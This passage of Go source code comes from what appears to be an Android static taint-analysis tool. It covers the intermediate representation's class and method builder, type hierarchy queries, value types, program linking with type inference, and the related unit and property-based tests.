	}
	return nil
}

// IsCall reports whether s contains an invocation.
func IsCall(s Stmt) bool { return CallOf(s) != nil }

// CallResult returns the local the call's result is assigned to, or nil if
// the statement is not a call or the result is discarded.
func CallResult(s Stmt) *Local {
	if a, ok := s.(*AssignStmt); ok {
		if _, isCall := a.RHS.(*InvokeExpr); isCall {
			if l, ok := a.LHS.(*Local); ok {
				return l
			}
		}
	}
	return nil
}
