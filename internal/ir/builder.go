package ir

// Builder provides a fluent API for constructing classes and method bodies
// programmatically. The lifecycle package uses it to synthesize the dummy
// main method; tests use it for small hand-built programs. All errors are
// deferred: they surface from Program.Link (or MethodBuilder.Err).

// ClassBuilder accumulates a class under construction.
type ClassBuilder struct {
	prog *Program
	cls  *Class
	err  error
}

// NewClassIn creates a class in prog and returns its builder. An empty
// super means java.lang.Object (except for java.lang.Object itself, which
// is a root).
func NewClassIn(prog *Program, name, super string) *ClassBuilder {
	if super == "" && name != "java.lang.Object" {
		super = "java.lang.Object"
	}
	c := NewClass(name, super)
	b := &ClassBuilder{prog: prog, cls: c}
	b.err = prog.AddClass(c)
	return b
}

// Class returns the class under construction.
func (b *ClassBuilder) Class() *Class { return b.cls }

// Err returns the first construction error, if any.
func (b *ClassBuilder) Err() error { return b.err }

// Implements adds interface names.
func (b *ClassBuilder) Implements(names ...string) *ClassBuilder {
	b.cls.Interfaces = append(b.cls.Interfaces, names...)
	return b
}

// AsInterface marks the class as an interface.
func (b *ClassBuilder) AsInterface() *ClassBuilder {
	b.cls.Interface = true
	return b
}

// Field declares an instance field.
func (b *ClassBuilder) Field(name string, typ Type) *ClassBuilder {
	if _, err := b.cls.AddField(name, typ, false); err != nil && b.err == nil {
		b.err = err
	}
	return b
}

// StaticField declares a static field.
func (b *ClassBuilder) StaticField(name string, typ Type) *ClassBuilder {
	if _, err := b.cls.AddField(name, typ, true); err != nil && b.err == nil {
		b.err = err
	}
	return b
}

// Method starts a method on the class and returns its body builder. The
// method is registered on the class when Done is called, once its full
// arity is known.
func (b *ClassBuilder) Method(name string, ret Type) *MethodBuilder {
	m := NewMethod(name, ret, false)
	m.Class = b.cls
	if m.This != nil {
		m.This.Type = Ref(b.cls.Name)
	}
	return &MethodBuilder{cls: b, m: m}
}

// StaticMethod starts a static method on the class.
func (b *ClassBuilder) StaticMethod(name string, ret Type) *MethodBuilder {
	m := NewMethod(name, ret, true)
	m.Class = b.cls
	return &MethodBuilder{cls: b, m: m}
}

// AbstractMethod declares a bodyless method (framework stub / interface
// method) with the given parameter types.
func (b *ClassBuilder) AbstractMethod(name string, ret Type, params ...Type) *ClassBuilder {
	mb := b.Method(name, ret)
	for i, t := range params {
		mb.Param(paramName(i), t)
	}
	return mb.Done()
}

func paramName(i int) string { return "p" + string(rune('0'+i)) }

// MethodBuilder accumulates a method body. Statements are appended in
// order; Done() installs the body.
type MethodBuilder struct {
	cls   *ClassBuilder
	m     *Method
	body  []Stmt
	label string // pending label for the next statement
}

// Method returns the method under construction.
func (b *MethodBuilder) Method() *Method { return b.m }

// Param declares a parameter and returns the local.
func (b *MethodBuilder) Param(name string, typ Type) *Local {
	l, err := b.m.AddParam(name, typ)
	if err != nil {
		if b.cls.err == nil {
			b.cls.err = err
		}
		return b.m.Local(name)
	}
	return l
}

// This returns the receiver local.
func (b *MethodBuilder) This() *Local { return b.m.This }

// Local returns (creating if needed) the named local.
func (b *MethodBuilder) Local(name string) *Local { return b.m.Local(name) }

// Label attaches a label to the next appended statement.
func (b *MethodBuilder) Label(name string) *MethodBuilder {
	b.label = name
	return b
}

func (b *MethodBuilder) add(s Stmt) *MethodBuilder {
	if b.label != "" {
		switch s := s.(type) {
		case *AssignStmt:
			s.SetLabel(b.label)
		case *InvokeStmt:
			s.SetLabel(b.label)
		case *IfStmt:
			s.SetLabel(b.label)
		case *GotoStmt:
			s.SetLabel(b.label)
		case *ReturnStmt:
			s.SetLabel(b.label)
		case *NopStmt:
			s.SetLabel(b.label)
		}
		b.label = ""
	}
	b.body = append(b.body, s)
	return b
}

// Assign appends "lhs = rhs".
func (b *MethodBuilder) Assign(lhs, rhs Value) *MethodBuilder {
	return b.add(&AssignStmt{LHS: lhs, RHS: rhs})
}

// New appends "dst = new C".
func (b *MethodBuilder) New(dst *Local, class string) *MethodBuilder {
	return b.Assign(dst, &New{Type: Ref(class)})
}

// VCall appends a virtual call "recv.name(args)" discarding the result.
func (b *MethodBuilder) VCall(recv *Local, name string, args ...Value) *MethodBuilder {
	return b.add(&InvokeStmt{Call: b.vexpr(recv, name, args)})
}

// VCallTo appends "dst = recv.name(args)".
func (b *MethodBuilder) VCallTo(dst *Local, recv *Local, name string, args ...Value) *MethodBuilder {
	return b.Assign(dst, b.vexpr(recv, name, args))
}

func (b *MethodBuilder) vexpr(recv *Local, name string, args []Value) *InvokeExpr {
	cls := ""
	if recv.Type.IsRef() {
		cls = recv.Type.Name
	}
	return &InvokeExpr{
		Kind: VirtualInvoke,
		Base: recv,
		Ref:  MethodRef{Class: cls, Name: name, NArgs: len(args)},
		Args: args,
	}
}

// SCall appends a static call "C.name(args)" discarding the result.
func (b *MethodBuilder) SCall(class, name string, args ...Value) *MethodBuilder {
	return b.add(&InvokeStmt{Call: &InvokeExpr{
		Kind: StaticInvoke,
		Ref:  MethodRef{Class: class, Name: name, NArgs: len(args)},
		Args: args,
	}})
}

// SCallTo appends "dst = C.name(args)".
func (b *MethodBuilder) SCallTo(dst *Local, class, name string, args ...Value) *MethodBuilder {
	return b.Assign(dst, &InvokeExpr{
		Kind: StaticInvoke,
		Ref:  MethodRef{Class: class, Name: name, NArgs: len(args)},
		Args: args,
	})
}

// SpecialCall appends a special (exact-target) call such as a constructor.
func (b *MethodBuilder) SpecialCall(recv *Local, class, name string, args ...Value) *MethodBuilder {
	return b.add(&InvokeStmt{Call: &InvokeExpr{
		Kind: SpecialInvoke,
		Base: recv,
		Ref:  MethodRef{Class: class, Name: name, NArgs: len(args)},
		Args: args,
	}})
}

// If appends an opaque conditional branch to the label.
func (b *MethodBuilder) If(target string) *MethodBuilder {
	return b.add(&IfStmt{Target: target})
}

// Goto appends an unconditional jump to the label.
func (b *MethodBuilder) Goto(target string) *MethodBuilder {
	return b.add(&GotoStmt{Target: target})
}

// Return appends "return v" (v may be nil).
func (b *MethodBuilder) Return(v Value) *MethodBuilder {
	return b.add(&ReturnStmt{Value: v})
}

// Nop appends a no-op (useful as a label carrier).
func (b *MethodBuilder) Nop() *MethodBuilder { return b.add(&NopStmt{}) }

// Done installs the accumulated body, registers the method on its class,
// and returns the class builder for chaining.
func (b *MethodBuilder) Done() *ClassBuilder {
	b.m.SetBody(b.body)
	if err := b.cls.cls.AddMethod(b.m); err != nil && b.cls.err == nil {
		b.cls.err = err
	}
	return b.cls
}
