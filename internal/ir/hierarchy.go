package ir

import "sync/atomic"

// Hierarchy is the program-model query surface the analyses resolve
// against: class lookup, subtyping, and member resolution. *Program
// implements it by walking the class graph on every call;
// internal/scene.Scene implements it with precomputed subtype sets and
// memoized resolution so that every downstream phase queries one shared,
// cached substrate (the analogue of Soot's Scene).
//
// Implementations must agree with *Program's semantics exactly; the
// scene package's tests cross-check the two on adversarial hierarchies.
type Hierarchy interface {
	// Class returns the named class, or nil.
	Class(name string) *Class
	// Classes returns all classes in name order.
	Classes() []*Class
	// SubtypeOf reports whether sub is the same as, a subclass of, or an
	// implementor of super.
	SubtypeOf(sub, super string) bool
	// SubtypesOf returns the names of every class that is a subtype of
	// the named class or interface, in name order. Callers must not
	// mutate the returned slice (cached implementations share it).
	SubtypesOf(name string) []string
	// ResolveMethod finds the method (name, nargs) starting at class and
	// walking up the superclass chain, then the transitive interfaces.
	ResolveMethod(class, name string, nargs int) *Method
	// ResolveField finds the field by name starting at class and walking
	// up the superclass chain.
	ResolveField(class, name string) *Field
}

// subtypeWalks counts the class-graph nodes visited by Program.subtypeOf,
// the unit of redundant hierarchy work the scene layer exists to remove.
// The smoke benchmarks report the delta per run to compare the raw
// Program path against the Scene path.
var subtypeWalks atomic.Int64

// SubtypeWalks returns the cumulative number of subtype-walk steps
// Program.SubtypeOf has performed process-wide.
func SubtypeWalks() int64 { return subtypeWalks.Load() }
