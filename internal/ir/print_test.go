package ir

import (
	"strings"
	"testing"
)

// TestValueStrings locks the rendering of every value form, which the
// printer, reports and error messages all rely on.
func TestValueStrings(t *testing.T) {
	x := &Local{Name: "x", Type: Ref("A")}
	y := &Local{Name: "y"}
	cls := NewClass("C", "")
	fld, _ := cls.AddField("f", Int, false)
	sfld, _ := cls.AddField("s", Int, true)

	cases := []struct {
		v    Value
		want string
	}{
		{x, "x"},
		{IntOf(42), "42"},
		{StringOf("hi"), `"hi"`},
		{NullOf(), "null"},
		{ResOf("id/pwd"), "@id/pwd"},
		{&FieldRef{Base: x, Name: "f", Field: fld}, "x.f"},
		{&FieldRef{Base: x, Name: "g"}, "x.g"},
		{&StaticFieldRef{Class: "C", Name: "s", Field: sfld}, "C.s"},
		{&StaticFieldRef{Class: "D", Name: "t"}, "D.t"},
		{&ArrayRef{Base: x, Index: IntOf(3)}, "x[3]"},
		{&ArrayRef{Base: x, Index: y}, "x[y]"},
		{&New{Type: Ref("A")}, "new A"},
		{&NewArray{Elem: Int}, "newarray int"},
		{&NewArray{Elem: Int, Len: IntOf(4)}, "newarray int[4]"},
		{&Binop{Op: "+", L: x, R: y}, "x + y"},
		{&Cast{To: Ref("B"), X: x}, "(B) x"},
		{&InvokeExpr{Kind: VirtualInvoke, Base: x,
			Ref: MethodRef{Class: "A", Name: "m", NArgs: 1}, Args: []Value{y}}, "x.m(y)"},
		{&InvokeExpr{Kind: StaticInvoke,
			Ref: MethodRef{Class: "A", Name: "m", NArgs: 0}}, "A.m()"},
	}
	for _, c := range cases {
		if got := c.v.String(); got != c.want {
			t.Errorf("String() = %q, want %q", got, c.want)
		}
	}
	if InvokeKind(99).String() != "?" {
		t.Error("unknown invoke kind should render as ?")
	}
	for k, want := range map[InvokeKind]string{
		VirtualInvoke: "virtual", StaticInvoke: "static", SpecialInvoke: "special",
	} {
		if k.String() != want {
			t.Errorf("kind %d = %q", k, k.String())
		}
	}
}

func TestStmtStrings(t *testing.T) {
	x := &Local{Name: "x"}
	cases := []struct {
		s    Stmt
		want string
	}{
		{&AssignStmt{LHS: x, RHS: IntOf(1)}, "x = 1"},
		{&IfStmt{Target: "L"}, "if * goto L"},
		{&GotoStmt{Target: "L"}, "goto L"},
		{&ReturnStmt{}, "return"},
		{&ReturnStmt{Value: x}, "return x"},
		{&NopStmt{}, "nop"},
		{&InvokeStmt{Call: &InvokeExpr{Kind: StaticInvoke,
			Ref: MethodRef{Class: "A", Name: "m", NArgs: 0}}}, "A.m()"},
	}
	for _, c := range cases {
		if got := c.s.String(); got != c.want {
			t.Errorf("String() = %q, want %q", got, c.want)
		}
	}
}

func TestPrintMethodFormats(t *testing.T) {
	p := NewProgram()
	cb := NewClassIn(p, "P", "").Implements("I")
	cb.StaticField("sf", Int)
	mb := cb.StaticMethod("run", Void)
	mb.Param("n", Int)
	mb.Label("top").Nop()
	mb.If("top")
	mb.Return(nil)
	mb.Done()
	if err := p.Link(); err != nil {
		t.Fatal(err)
	}
	out := PrintMethod(p.Class("P").Method("run", 1))
	for _, want := range []string{"static method run(n: int): void", "top:", "if * goto top"} {
		if !strings.Contains(out, want) {
			t.Errorf("PrintMethod missing %q:\n%s", want, out)
		}
	}
	cls := PrintClass(p.Class("P"))
	for _, want := range []string{"implements I", "static field sf: int"} {
		if !strings.Contains(cls, want) {
			t.Errorf("PrintClass missing %q:\n%s", want, cls)
		}
	}
}

func TestMethodRefAndString(t *testing.T) {
	r := MethodRef{Class: "a.B", Name: "m", NArgs: 2}
	if r.String() != "a.B.m/2" {
		t.Errorf("MethodRef.String = %q", r.String())
	}
	m := NewMethod("x", Void, true)
	if !strings.Contains(m.String(), "?") {
		t.Error("unattached method should render an unknown class")
	}
}
