package ir

import (
	"fmt"
	"sort"
)

// Program is a closed world of classes: the app's own classes plus the
// framework model they link against. All name resolution (fields, methods,
// subtyping) happens against a Program.
type Program struct {
	classes map[string]*Class
}

// NewProgram returns an empty program.
func NewProgram() *Program {
	return &Program{classes: make(map[string]*Class)}
}

// AddClass registers a class; it returns an error on duplicate names.
func (p *Program) AddClass(c *Class) error {
	if _, dup := p.classes[c.Name]; dup {
		return fmt.Errorf("duplicate class %s", c.Name)
	}
	p.classes[c.Name] = c
	return nil
}

// Class returns the named class, or nil.
func (p *Program) Class(name string) *Class { return p.classes[name] }

// Classes returns all classes in name order.
func (p *Program) Classes() []*Class {
	out := make([]*Class, 0, len(p.classes))
	for _, c := range p.classes {
		out = append(out, c)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Name < out[j].Name })
	return out
}

// Methods returns every method of every class, in deterministic order.
func (p *Program) Methods() []*Method {
	var out []*Method
	for _, c := range p.Classes() {
		out = append(out, c.Methods()...)
	}
	return out
}

// SubtypeOf reports whether sub is the same as, a subclass of, or an
// implementor of super, following superclass and interface edges. Cyclic
// hierarchies (which only malformed inputs can produce) are tolerated.
func (p *Program) SubtypeOf(sub, super string) bool {
	return p.subtypeOf(sub, super, nil)
}

func (p *Program) subtypeOf(sub, super string, seen map[string]bool) bool {
	subtypeWalks.Add(1)
	if sub == super {
		return true
	}
	if seen[sub] {
		return false
	}
	c := p.classes[sub]
	if c == nil {
		return false
	}
	if seen == nil {
		seen = make(map[string]bool)
	}
	seen[sub] = true
	if c.Super != "" && p.subtypeOf(c.Super, super, seen) {
		return true
	}
	for _, in := range c.Interfaces {
		if p.subtypeOf(in, super, seen) {
			return true
		}
	}
	return false
}

// SubtypesOf returns the names of every class that is a subtype of the
// named class or interface (including itself if declared), in name order.
func (p *Program) SubtypesOf(name string) []string {
	var out []string
	for cn := range p.classes {
		if p.SubtypeOf(cn, name) {
			out = append(out, cn)
		}
	}
	sort.Strings(out)
	return out
}

// ResolveMethod finds the method (name, nargs) starting at class and
// walking up the superclass chain, then the transitive interfaces. It
// returns nil if no declaration is found.
func (p *Program) ResolveMethod(class, name string, nargs int) *Method {
	for cn := class; cn != ""; {
		c := p.classes[cn]
		if c == nil {
			return nil
		}
		if m := c.Method(name, nargs); m != nil {
			return m
		}
		cn = c.Super
	}
	// Fall back to interface declarations (for callback interfaces).
	if c := p.classes[class]; c != nil {
		for _, in := range c.Interfaces {
			if m := p.ResolveMethod(in, name, nargs); m != nil {
				return m
			}
		}
	}
	return nil
}

// ResolveField finds the field by name starting at class and walking up
// the superclass chain. It returns nil if no declaration is found.
func (p *Program) ResolveField(class, name string) *Field {
	for cn := class; cn != ""; {
		c := p.classes[cn]
		if c == nil {
			return nil
		}
		if f := c.Field(name); f != nil {
			return f
		}
		cn = c.Super
	}
	return nil
}

// Link prepares the program for analysis: it finalizes every method body,
// runs local type inference to a fixed point, and resolves all field
// references to their declarations. It must be called after all classes
// have been added and before any analysis runs. Linking is idempotent.
func (p *Program) Link() error {
	for _, c := range p.Classes() {
		for _, m := range c.Methods() {
			if m.This != nil && m.This.Type.IsUnknown() {
				m.This.Type = Ref(c.Name)
			}
			if err := m.Finalize(); err != nil {
				return err
			}
		}
	}
	// Local type inference: propagate types through copies, allocations,
	// casts, loads and calls until nothing changes. The inference is a
	// best effort; remaining unknown types degrade dispatch precision but
	// never correctness (callers fall back to name-based CHA).
	for changed := true; changed; {
		changed = false
		for _, c := range p.Classes() {
			for _, m := range c.Methods() {
				if p.inferMethod(m) {
					changed = true
				}
			}
		}
	}
	// Field resolution.
	for _, c := range p.Classes() {
		for _, m := range c.Methods() {
			if err := p.resolveFields(m); err != nil {
				return err
			}
		}
	}
	return nil
}

func (p *Program) inferMethod(m *Method) bool {
	changed := false
	set := func(l *Local, t Type) {
		if l.Type.IsUnknown() && !t.IsUnknown() && t.Kind != VoidType {
			l.Type = t
			changed = true
		}
	}
	for _, s := range m.Body() {
		a, ok := s.(*AssignStmt)
		if !ok {
			continue
		}
		lhs, ok := a.LHS.(*Local)
		if !ok {
			continue
		}
		switch rhs := a.RHS.(type) {
		case *Local:
			set(lhs, rhs.Type)
		case *New:
			set(lhs, rhs.Type)
		case *NewArray:
			set(lhs, ArrayOf(rhs.Elem))
		case *Cast:
			set(lhs, rhs.To)
		case *Const:
			switch rhs.Kind {
			case IntConst, ResConst:
				set(lhs, Int)
			case StringConst:
				set(lhs, Ref("java.lang.String"))
			}
		case *Binop:
			set(lhs, binopType(rhs))
		case *FieldRef:
			if t := p.fieldRefType(rhs); !t.IsUnknown() {
				set(lhs, t)
			}
		case *StaticFieldRef:
			if f := p.ResolveField(rhs.Class, rhs.Name); f != nil {
				set(lhs, f.Type)
			}
		case *ArrayRef:
			if rhs.Base.Type.IsArray() {
				set(lhs, *rhs.Base.Type.Elem)
			}
		case *InvokeExpr:
			if t := p.returnTypeOf(rhs); !t.IsUnknown() {
				set(lhs, t)
			}
		}
	}
	return changed
}

func binopType(b *Binop) Type {
	str := Ref("java.lang.String")
	if l, ok := b.L.(*Local); ok && l.Type.Equal(str) {
		return str
	}
	if r, ok := b.R.(*Local); ok && r.Type.Equal(str) {
		return str
	}
	if c, ok := b.L.(*Const); ok && c.Kind == StringConst {
		return str
	}
	if c, ok := b.R.(*Const); ok && c.Kind == StringConst {
		return str
	}
	return Int
}

func (p *Program) fieldRefType(r *FieldRef) Type {
	if r.Field != nil {
		return r.Field.Type
	}
	if r.Base.Type.IsRef() {
		if f := p.ResolveField(r.Base.Type.Name, r.Name); f != nil {
			return f.Type
		}
	}
	return Unknown
}

// returnTypeOf finds the declared return type of an invocation's static
// target, if resolvable.
func (p *Program) returnTypeOf(e *InvokeExpr) Type {
	cls := e.Ref.Class
	if e.Kind == VirtualInvoke && e.Base != nil && e.Base.Type.IsRef() {
		cls = e.Base.Type.Name
	}
	if m := p.ResolveMethod(cls, e.Ref.Name, e.Ref.NArgs); m != nil {
		return m.Return
	}
	// Name-based fallback: if exactly one class declares the method,
	// use its return type.
	var found *Method
	for _, c := range p.classes {
		if m := c.Method(e.Ref.Name, e.Ref.NArgs); m != nil {
			if found != nil && !found.Return.Equal(m.Return) {
				return Unknown
			}
			found = m
		}
	}
	if found != nil {
		return found.Return
	}
	return Unknown
}

func (p *Program) resolveFields(m *Method) error {
	resolveRef := func(r *FieldRef) error {
		if r.Field != nil {
			return nil
		}
		if r.Base.Type.IsRef() {
			if f := p.ResolveField(r.Base.Type.Name, r.Name); f != nil {
				r.Field = f
				return nil
			}
		}
		// Unique-name fallback across the whole program.
		var found *Field
		for _, c := range p.classes {
			if f := c.Field(r.Name); f != nil {
				if found != nil {
					return fmt.Errorf("%s: ambiguous field %q on %s (declared in both %s and %s)",
						m, r.Name, r.Base.Name, found.Class.Name, c.Name)
				}
				found = f
			}
		}
		if found == nil {
			return fmt.Errorf("%s: cannot resolve field %q on %s", m, r.Name, r.Base.Name)
		}
		r.Field = found
		return nil
	}
	resolveStatic := func(r *StaticFieldRef) error {
		if r.Field != nil {
			return nil
		}
		f := p.ResolveField(r.Class, r.Name)
		if f == nil {
			return fmt.Errorf("%s: cannot resolve static field %s.%s", m, r.Class, r.Name)
		}
		r.Field = f
		return nil
	}
	resolveVal := func(v Value) error {
		switch v := v.(type) {
		case *FieldRef:
			return resolveRef(v)
		case *StaticFieldRef:
			return resolveStatic(v)
		}
		return nil
	}
	for _, s := range m.Body() {
		if a, ok := s.(*AssignStmt); ok {
			if err := resolveVal(a.LHS); err != nil {
				return err
			}
			if err := resolveVal(a.RHS); err != nil {
				return err
			}
			if b, ok := a.RHS.(*Binop); ok {
				if err := resolveVal(b.L); err != nil {
					return err
				}
				if err := resolveVal(b.R); err != nil {
					return err
				}
			}
			if c, ok := a.RHS.(*Cast); ok {
				if err := resolveVal(c.X); err != nil {
					return err
				}
			}
		}
	}
	return nil
}
