package ir

import (
	"fmt"
	"math/rand"
	"reflect"
	"testing"
	"testing/quick"
)

// randProgram builds a random but well-formed single-class program from a
// rand source: a pool of locals manipulated by randomly chosen statement
// shapes. It is the generator behind the print/parse round-trip and CFG
// properties.
func randProgram(r *rand.Rand, nStmts int) (*Program, *Method) {
	p := NewProgram()
	cb := NewClassIn(p, "R", "")
	cb.Field("f", Ref("java.lang.String"))
	cb.StaticField("s", Ref("java.lang.String"))
	mb := cb.StaticMethod("m", Void)

	locals := []*Local{mb.Local("a"), mb.Local("b"), mb.Local("c")}
	obj := mb.Local("o")
	mb.Assign(locals[0], StringOf("seed"))
	mb.Assign(locals[1], StringOf("seed2"))
	mb.Assign(locals[2], StringOf("seed3"))
	mb.New(obj, "R")

	nLabels := 0
	for i := 0; i < nStmts; i++ {
		dst := locals[r.Intn(len(locals))]
		src := locals[r.Intn(len(locals))]
		switch r.Intn(7) {
		case 0:
			mb.Assign(dst, src)
		case 1:
			mb.Assign(dst, StringOf(fmt.Sprintf("c%d", i)))
		case 2:
			mb.Assign(dst, &Binop{Op: "+", L: src, R: StringOf("x")})
		case 3:
			mb.Assign(&FieldRef{Base: obj, Name: "f"}, src)
		case 4:
			mb.Assign(dst, &FieldRef{Base: obj, Name: "f"})
		case 5:
			nLabels++
			lbl := fmt.Sprintf("L%d", nLabels)
			mb.If(lbl)
			mb.Assign(dst, src)
			mb.Label(lbl).Nop()
		case 6:
			mb.Assign(&StaticFieldRef{Class: "R", Name: "s"}, src)
		}
	}
	mb.Return(nil)
	mb.Done()
	if err := p.Link(); err != nil {
		panic(err)
	}
	return p, p.Class("R").Method("m", 0)
}

// TestQuickFinalizeInvariants: for any generated program, finalization
// numbers statements densely, resolves every branch target into range,
// and the body ends with a return.
func TestQuickFinalizeInvariants(t *testing.T) {
	f := func(seed int64, size uint8) bool {
		r := rand.New(rand.NewSource(seed))
		_, m := randProgram(r, int(size%40))
		body := m.Body()
		if len(body) == 0 {
			return false
		}
		for i, s := range body {
			if s.Index() != i || s.Method() != m {
				return false
			}
			if ifs, ok := s.(*IfStmt); ok {
				if ifs.TargetIndex < 0 || ifs.TargetIndex >= len(body) {
					return false
				}
				if body[ifs.TargetIndex].Label() != ifs.Target {
					return false
				}
			}
		}
		_, isRet := body[len(body)-1].(*ReturnStmt)
		return isRet
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

// TestQuickTypeEquality: Equal is reflexive and symmetric over the type
// constructors reachable from random names.
func TestQuickTypeEquality(t *testing.T) {
	names := []string{"int", "long", "void", "A", "b.C", "int[]", "A[]", "A[][]"}
	f := func(i, j uint8) bool {
		a := TypeFromName(names[int(i)%len(names)])
		b := TypeFromName(names[int(j)%len(names)])
		if !a.Equal(a) || !b.Equal(b) {
			return false
		}
		return a.Equal(b) == b.Equal(a)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

// TestQuickSubtypeReflexiveTransitive: SubtypeOf is reflexive on declared
// classes, and transitive along randomly generated linear hierarchies.
func TestQuickSubtypeReflexiveTransitive(t *testing.T) {
	f := func(depth uint8) bool {
		p := NewProgram()
		n := int(depth%10) + 2
		names := make([]string, n)
		for i := 0; i < n; i++ {
			names[i] = fmt.Sprintf("C%d", i)
			super := ""
			if i > 0 {
				super = names[i-1]
			}
			cls := NewClass(names[i], super)
			if err := p.AddClass(cls); err != nil {
				return false
			}
		}
		for i := 0; i < n; i++ {
			if !p.SubtypeOf(names[i], names[i]) {
				return false
			}
			for j := 0; j <= i; j++ {
				if !p.SubtypeOf(names[i], names[j]) {
					return false
				}
			}
			for j := i + 1; j < n; j++ {
				if p.SubtypeOf(names[i], names[j]) {
					return false
				}
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 50}); err != nil {
		t.Error(err)
	}
}

// TestQuickSubtypeCycleSafe: malformed cyclic hierarchies terminate.
func TestQuickSubtypeCycleSafe(t *testing.T) {
	f := func(n uint8) bool {
		p := NewProgram()
		k := int(n%5) + 2
		for i := 0; i < k; i++ {
			cls := NewClass(fmt.Sprintf("X%d", i), fmt.Sprintf("X%d", (i+1)%k))
			if err := p.AddClass(cls); err != nil {
				return false
			}
		}
		// Must terminate; the answer for unrelated names is false.
		return !p.SubtypeOf("X0", "unrelated")
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 30}); err != nil {
		t.Error(err)
	}
}

// genValue makes reflect-based quick generation available for seeds.
var _ = reflect.TypeOf
