package ir

import (
	"fmt"
	"strings"
)

// Value is the interface implemented by everything that can appear on the
// right-hand side of an assignment or as an operand. Left-hand sides are
// the subset of values that designate storage: *Local, *FieldRef,
// *StaticFieldRef and *ArrayRef.
type Value interface {
	valueNode()
	String() string
}

// Local is a method-scoped variable (including parameters and the implicit
// receiver). Locals are unique per method; identity is pointer identity.
type Local struct {
	Name string
	Type Type
	// Declared marks locals introduced by an explicit "local x: T"
	// declaration, a parameter, or the implicit receiver — names whose
	// existence is guaranteed before any assignment. The definite-
	// assignment analyzer treats them as initialized at method entry.
	Declared bool
}

func (*Local) valueNode()       {}
func (l *Local) String() string { return l.Name }

// ConstKind discriminates constant values.
type ConstKind int

const (
	// IntConst is an integer literal.
	IntConst ConstKind = iota
	// StringConst is a string literal.
	StringConst
	// NullConst is the null literal.
	NullConst
	// ResConst is a symbolic Android resource reference such as
	// "@id/pwdString" or "@layout/main"; the app loader resolves it to an
	// integer via the package's resource table.
	ResConst
)

// Const is a literal operand.
type Const struct {
	Kind ConstKind
	Int  int64  // IntConst value, or the resolved id of a ResConst
	Str  string // StringConst value, or the symbolic name of a ResConst
}

func (*Const) valueNode() {}

func (c *Const) String() string {
	switch c.Kind {
	case IntConst:
		return fmt.Sprintf("%d", c.Int)
	case StringConst:
		return fmt.Sprintf("%q", c.Str)
	case NullConst:
		return "null"
	case ResConst:
		return "@" + c.Str
	}
	return "?"
}

// IntOf returns an integer constant.
func IntOf(v int64) *Const { return &Const{Kind: IntConst, Int: v} }

// StringOf returns a string constant.
func StringOf(s string) *Const { return &Const{Kind: StringConst, Str: s} }

// NullOf returns the null constant.
func NullOf() *Const { return &Const{Kind: NullConst} }

// ResOf returns a symbolic resource constant ("id/name" or "layout/name").
func ResOf(name string) *Const { return &Const{Kind: ResConst, Str: name} }

// FieldRef designates an instance field of the object held by Base
// ("base.f"). After Program.Link, Field points at the resolved declaration.
type FieldRef struct {
	Base *Local
	// Name is the source-level field name, kept for unlinked printing.
	Name string
	// Field is the resolved field; set by Program.Link.
	Field *Field
}

func (*FieldRef) valueNode() {}

func (f *FieldRef) String() string { return f.Base.Name + "." + f.fieldName() }

func (f *FieldRef) fieldName() string {
	if f.Field != nil {
		return f.Field.Name
	}
	return f.Name
}

// StaticFieldRef designates a static (class-level) field ("C.f").
type StaticFieldRef struct {
	Class string
	Name  string
	Field *Field // resolved by Program.Link
}

func (*StaticFieldRef) valueNode() {}

func (f *StaticFieldRef) String() string {
	if f.Field != nil {
		return f.Field.Class.Name + "." + f.Field.Name
	}
	return f.Class + "." + f.Name
}

// ArrayRef designates an element of the array held by Base ("base[i]").
type ArrayRef struct {
	Base  *Local
	Index Value // *Local or *Const
}

func (*ArrayRef) valueNode()       {}
func (a *ArrayRef) String() string { return fmt.Sprintf("%s[%s]", a.Base.Name, a.Index) }

// New is an allocation expression ("new C").
type New struct {
	Type Type
}

func (*New) valueNode()       {}
func (n *New) String() string { return "new " + n.Type.String() }

// NewArray is an array allocation ("newarray T").
type NewArray struct {
	Elem Type
	Len  Value // may be nil
}

func (*NewArray) valueNode() {}

func (n *NewArray) String() string {
	if n.Len == nil {
		return "newarray " + n.Elem.String()
	}
	return fmt.Sprintf("newarray %s[%s]", n.Elem, n.Len)
}

// Binop is a binary expression such as string concatenation or integer
// arithmetic. The analyses treat all operators identically: the result
// carries taint if either operand does ("must track primitives").
type Binop struct {
	Op   string
	L, R Value
}

func (*Binop) valueNode()       {}
func (b *Binop) String() string { return fmt.Sprintf("%s %s %s", b.L, b.Op, b.R) }

// Cast is a checked reference cast ("(C) x"). Taint flows through
// unchanged.
type Cast struct {
	To Type
	X  Value
}

func (*Cast) valueNode()       {}
func (c *Cast) String() string { return fmt.Sprintf("(%s) %s", c.To, c.X) }

// InvokeKind discriminates dispatch behaviour of invocations.
type InvokeKind int

const (
	// VirtualInvoke dispatches on the runtime type of the receiver.
	VirtualInvoke InvokeKind = iota
	// StaticInvoke targets a static method of a named class.
	StaticInvoke
	// SpecialInvoke targets an exact method (constructors); no dispatch.
	SpecialInvoke
)

func (k InvokeKind) String() string {
	switch k {
	case VirtualInvoke:
		return "virtual"
	case StaticInvoke:
		return "static"
	case SpecialInvoke:
		return "special"
	}
	return "?"
}

// MethodRef names an invocation target before resolution: the static
// receiver class (declared class for virtual calls, the named class for
// static and special calls), the method name, and the argument count.
// Overload resolution is by arity only.
type MethodRef struct {
	Class string
	Name  string
	NArgs int
}

// String renders the reference as "Class.Name/NArgs".
func (r MethodRef) String() string { return fmt.Sprintf("%s.%s/%d", r.Class, r.Name, r.NArgs) }

// InvokeExpr is a method invocation. It appears either as the right-hand
// side of an assignment (calls with a used result) or inside an InvokeStmt
// (calls whose result is discarded). Arguments are restricted to locals and
// constants by the three-address form.
type InvokeExpr struct {
	Kind InvokeKind
	Base *Local // receiver; nil for static invokes
	Ref  MethodRef
	Args []Value
}

func (*InvokeExpr) valueNode() {}

func (e *InvokeExpr) String() string {
	args := make([]string, len(e.Args))
	for i, a := range e.Args {
		args[i] = a.String()
	}
	recv := e.Ref.Class
	if e.Base != nil {
		recv = e.Base.Name
	}
	return fmt.Sprintf("%s.%s(%s)", recv, e.Ref.Name, strings.Join(args, ", "))
}

// IsSimple reports whether v is a local or a constant, the only values the
// three-address form permits as call arguments, array indices and operands.
func IsSimple(v Value) bool {
	switch v.(type) {
	case *Local, *Const:
		return true
	}
	return false
}
