package core_test

import (
